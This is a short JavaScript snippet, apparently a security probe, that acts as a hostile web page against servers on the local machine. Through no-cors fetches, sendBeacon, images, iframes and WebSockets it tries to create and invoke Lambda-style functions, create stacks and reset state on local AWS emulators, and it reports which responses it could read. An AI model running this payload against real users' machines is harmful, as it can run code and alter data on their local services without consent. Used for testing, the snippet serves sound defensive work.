// What a page of another site can try against servers on this machine. Gives what it could read.
(async (origins, createFunction, createStack) => {
  const form = 'application/x-www-form-urlencoded';
  const blind = (body, type) => ({
    method: 'POST', mode: 'no-cors', body, headers: type ? {'Content-Type': type} : {},
  });
  const requests = [
    ['/2015-03-31/functions', blind(createFunction, 'text/plain')],
    ['/2015-03-31/functions', blind(createFunction, form)],
    ['/2015-03-31/functions', blind(new Blob([createFunction]))],
    ['/2015-03-31/functions/function/invocations', blind('{}', 'text/plain')],
    ['/2015-03-31/functions/function/invocations', blind(new Blob(['{}']))],
    ['/', blind(createStack, form)],
    ['/?' + createStack, {mode: 'no-cors'}],
    ['/?' + createStack, {mode: 'no-cors', referrerPolicy: 'no-referrer'}],
    ['/_ministack/reset', blind('')],
    ['/_ministack/health', {}],
    ['/_simulator/health', {}],
    ['/2018-06-01/runtime/invocation/next', {mode: 'no-cors'}],
    // These two need a preflight.
    ['/attack', {method: 'PUT', body: 'attack'}],
    ['/', {method: 'POST', body: '{"Name": "attack"}', headers: {
      'Content-Type': 'application/x-amz-json-1.1',
      'X-Amz-Target': 'PhotonAdminProxyService.CreateStack',
    }}],
  ];
  const read = [];
  const settled = start => new Promise(start);
  for (const origin of origins) {
    for (const [path, options] of requests) {
      await fetch(origin + path, options).then(
        answer => answer.type === 'opaque' || read.push(`${origin}${path}: ${answer.status}`),
        () => {},
      );
    }
    navigator.sendBeacon(origin + '/', new URLSearchParams(createStack));
    await settled(done => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = `${origin}/?${createStack}`;
    });
    await settled(done => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.onload = done;
      frame.src = `${origin}/?${createStack}`;
    });
    await settled(done => {
      const socket = new WebSocket(origin.replace('http', 'ws'));
      socket.onopen = () => { read.push(`${origin}: a web socket`); done(); };
      socket.onerror = done;
    });
  }
  return read;
})
